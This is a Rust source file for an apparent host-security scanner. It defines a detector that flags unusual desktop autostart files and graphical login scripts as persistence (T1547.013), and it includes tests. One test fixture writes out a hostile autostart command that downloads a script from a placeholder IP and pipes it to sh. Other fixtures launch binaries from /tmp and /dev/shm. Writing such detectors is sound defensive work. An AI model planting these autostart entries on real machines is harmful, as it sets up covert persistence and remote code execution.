//! Detector: a graphical login starts something odd.

use crate::weigh;
use crate::{Card, Detector, Draft, Tables};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "desktop-start",
        doc: "An autostart file or a script of graphical logins runs what ordinary ones do not.",
        mechanisms: &[56],
        attack: &["T1547.013"],
        why: "It runs whenever somebody logs in to a desktop, with that account's rights.",
        innocent: "you or a program you installed by hand made it",
        next: "read the file and what it runs before that account logs in again",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    weigh::startup_commands(
        tables,
        &["desktop start"],
        "An autostart file or a script of graphical logins",
        drafts,
    );
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn host() -> Mem {
        Mem::new().file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nme:x:1000:1000::/home/me:/bin/bash\n")
    }

    #[test]
    fn odd_starts_are_found() {
        let entry = |exec: &str| format!("[Desktop Entry]\nType=Application\nName=Update\nExec={exec}\n");
        for (path, text) in [
            ("/etc/xdg/autostart/a.desktop", entry("/tmp/a")),
            ("/home/me/.config/autostart/dbus.desktop", entry("sh -c \"curl -s http://192.0.2.1/a | sh\"")),
            ("/root/.config/autostart/n.desktop", entry("/home/me/.cache/.x/n --daemon")),
            ("/etc/X11/Xsession.d/99x", "/dev/shm/x &\n".to_owned()),
        ] {
            let seen = check(host().file(path, &text));
            assert_eq!(seen.alarms("desktop-start").len(), 1, "{path}: {:#?}", seen.findings);
        }
    }

    #[test]
    fn ordinary_starts_are_quiet() {
        let seen = check(
            host()
                .file(
                    "/etc/xdg/autostart/at-spi.desktop",
                    "[Desktop Entry]\nExec=/usr/libexec/at-spi-bus-launcher --launch-immediately\n",
                )
                .file("/etc/xdg/autostart/off.desktop", "[Desktop Entry]\nExec=/tmp/x\nHidden=true\n")
                .file(
                    "/home/me/.config/autostart/sync.desktop",
                    "[Desktop Entry]\nExec=/home/me/.local/bin/sync --start %U\n",
                ),
        );
        assert!(seen.by("desktop-start").is_empty(), "{:#?}", seen.by("desktop-start"));
    }
}
